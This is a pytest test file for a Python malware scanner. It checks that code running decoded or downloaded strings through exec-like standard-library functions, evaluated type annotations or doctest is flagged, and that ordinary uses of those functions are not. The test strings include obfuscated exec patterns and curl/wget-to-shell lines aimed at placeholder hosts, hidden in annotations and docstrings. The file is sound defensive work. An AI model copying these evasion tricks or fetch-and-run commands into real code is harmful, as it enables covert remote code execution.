"""Standard-library functions that run a string as Python source (``_scan._code_runners``)."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: blind16 (tune b16-ds-timeit-stmt, -cprofile-run, -code-runsource, -pyrun-simplestring):
#: a decoded stage run by a function that is exec under another name.
RUN_DECODED = [
    "import timeit, base64\ntimeit.timeit(stmt=base64.b64decode(X).decode(), number=1)\n",
    "import timeit, base64\ntimeit.Timer(base64.b64decode(X).decode()).timeit(1)\n",
    "import cProfile, zlib\ncProfile.run(zlib.decompress(X).decode(), '/dev/null')\n",
    "import profile, base64\nprofile.runctx(base64.b64decode(X), {}, {})\n",
    "import pdb, codecs\npdb.run(codecs.decode(X, 'rot13'))\n",
    "import code\ncode.InteractiveInterpreter().runsource(bytes.fromhex(X).decode(), 'x')\n",
    "import code, base64\nii = code.InteractiveConsole()\nii.push(base64.b64decode(X).decode())\n",
    "import ctypes, lzma\nctypes.pythonapi.PyRun_SimpleString(lzma.decompress(X))\n",
    # blind17 (tune b17-ds-trace-runctx): a tracer's, a debugger's, a profiler's run
    "import trace, codecs\nt = trace.Trace(count=0, trace=0)\n"
    "t.runctx(codecs.decode(X, 'hex').decode(), {}, {})\n",
    "import trace, base64\ntrace.Trace(trace=0).run(base64.b64decode(X).decode())\n",
    "import bdb, zlib\nbdb.Bdb().run(zlib.decompress(X).decode())\n",
    "import pdb, base64\ndbg = pdb.Pdb()\ndbg.runeval(base64.b64decode(X).decode())\n",
    "import cProfile, base64\npr = cProfile.Profile()\npr.run(base64.b64decode(X).decode())\n",
]


@pytest.mark.parametrize("source", RUN_DECODED)
def test_decoded_source_run_by_exec_under_another_name_is_run_decoded_data(source: str) -> None:
    assert "CPL-THR-001" in danger(source)


@pytest.mark.parametrize("source", RUN_DECODED)
def test_a_runner_of_decoded_source_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-001")


def test_a_downloaded_stage_given_to_timeit_is_run_downloaded_data() -> None:
    source = (
        "import timeit, urllib.request\n"
        "timeit.timeit(urllib.request.urlopen('https://x.example/s').read().decode(), number=1)\n"
    )
    assert "CPL-THR-002" in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # what the runners are for: a benchmark, a profile, a REPL of the user's lines
        "import timeit\nprint(timeit.timeit('sum(range(100))', number=1000))\n",
        "import timeit\ntimeit.timeit(stmt=lambda: sorted(DATA), number=10)\n",
        "import cProfile\ncProfile.run('main()', 'out.prof')\n",
        "import code\nconsole = code.InteractiveConsole(locals())\n"
        "while True:\n    console.push(input('>>> '))\n",
        "import code, base64\ncode.InteractiveConsole().push(PROMPT)\n",
        # a decoded value given to a method of the same name on something else
        "import base64\nqueue.push(base64.b64decode(X))\n",
        # a tracer and a profiler given the program's own entry point; decoded data given
        # to the run method of something that is no runner (blind17)
        "import trace\ntracer = trace.Trace(count=1, trace=0)\ntracer.run('main()')\n",
        "import cProfile\npr = cProfile.Profile()\npr.runctx('app.serve()', globals(), locals())\n",
        "import base64, asyncio\nloop.run(base64.b64decode(X))\njob.runctx(base64.b64decode(X))\n",
    ],
)
def test_a_runner_given_no_decoded_or_downloaded_source_is_not_a_threat(source: str) -> None:
    assert not danger(source)


#: blind16 (tune b16-cn-type-hints-eval): a string annotation is evaluated by the readers
#: of annotations, so code in one runs when they are asked for the hints.
EVALUATED_ANNOTATIONS = [
    "import typing\n"
    "def probe(x: \"__import__('os').system('curl -s https://t.example/p | sh') or int\"):\n"
    "    pass\ntyping.get_type_hints(probe)\n",
    "import inspect\nclass C:\n"
    "    a: \"__import__('os').system('wget -qO- http://192.0.2.4/x | sh')\"\n"
    "inspect.get_annotations(C, eval_str=True)\n",
]


@pytest.mark.parametrize("source", EVALUATED_ANNOTATIONS)
def test_code_in_an_annotation_a_reader_evaluates_is_run(source: str) -> None:
    assert {"CPL-THR-015", "CPL-THR-016"} <= danger(source)


@pytest.mark.parametrize("source", EVALUATED_ANNOTATIONS)
def test_code_in_an_evaluated_annotation_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-016")


@pytest.mark.parametrize(
    "source",
    [
        # forward references: what string annotations are for
        "import typing\nclass Node:\n    parent: 'Node | None'\n"
        "    children: 'list[Node]'\ntyping.get_type_hints(Node)\n",
        "import typing\ndef f(x: 'typing.Optional[int]') -> 'str':\n    return ''\n"
        "HINTS = typing.get_type_hints(f)\n",
        # an annotation that names a call but is never evaluated by the code
        "def g(x: \"__import__('os').system('id')\"):\n    pass\n",
    ],
)
def test_annotations_that_are_types_or_never_evaluated_stay_clean(source: str) -> None:
    assert not danger(source) & {"CPL-THR-015", "CPL-THR-016"}


# -- recall17: a docstring doctest runs --------------------------------------------------------

_DOCTEST_SAMPLE = (
    Path(__file__).resolve().parents[2]
    / "benchmarks/malware/tune/b16-ds-doctest-docstring/docrunner/__init__.py"
).read_text(encoding="utf-8")

#: blind16's b16-ds-doctest-docstring (Phylum): a function's ``__doc__`` set to a decoded
#: stage's lines behind ``>>> `` and run by doctest; doctest's other runners and its
#: parser; a docstring that downloads and runs a script, written in the file.
DOCTEST_STAGES = [
    (_DOCTEST_SAMPLE, "CPL-THR-001"),
    (
        "import doctest, zlib, sys\n"
        "def f():\n    pass\n"
        "setattr(f, '__doc__', zlib.decompress(X).decode())\n"
        "doctest.testmod(sys.modules[__name__])\n",
        "CPL-THR-001",
    ),
    (
        "import doctest, urllib.request\n"
        "t = urllib.request.urlopen('https://d.recall17.example/t').read().decode()\n"
        "p = doctest.DocTestParser()\n"
        "doctest.DocTestRunner().run(p.get_doctest(t, {}, 'x', None, 0))\n",
        "CPL-THR-002",
    ),
    (
        "import doctest\n"
        "class K:\n    pass\n"
        "K.__doc__ = '>>> import os\\n>>> os.system(\"curl -s https://k.example/i | sh\")\\n'\n"
        "doctest.run_docstring_examples(K, {})\n",
        "CPL-THR-015",
    ),
]


@pytest.mark.parametrize(("source", "rule"), DOCTEST_STAGES)
def test_a_stage_doctest_runs_is_run_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule: str
) -> None:
    assert rule in danger(source)
    found_in_a_package(tmp_path, monkeypatch, source, rule)


@pytest.mark.parametrize(
    "source",
    [
        # a test module's doctests: docstrings written in the file, run by testmod
        '''
        import base64, doctest

        def encode(b):
            """>>> encode(b"hi")
            'aGk='
            """
            return base64.b64encode(b).decode()

        if __name__ == "__main__":
            doctest.testmod()
        ''',
        # a docstring templated from the file's own text (pandas' Appender's kin), run
        """
        import doctest
        _SHARED = ">>> add(1, 2)\\n3\\n"
        def add(a, b):
            return a + b
        add.__doc__ = "Add two numbers.\\n\\n" + _SHARED
        doctest.run_docstring_examples(add, {"add": add})
        """,
        # another function's docstring decoded, not the one doctest runs
        '''
        import base64, doctest
        def f():
            """>>> 1 + 1
            2
            """
        def g():
            pass
        g.__doc__ = base64.b64decode("aGVscA==").decode()
        doctest.run_docstring_examples(f, {})
        ''',
    ],
)
def test_docstrings_doctest_runs_that_hold_no_stage_are_clean(source: str) -> None:
    assert danger(source) == set()
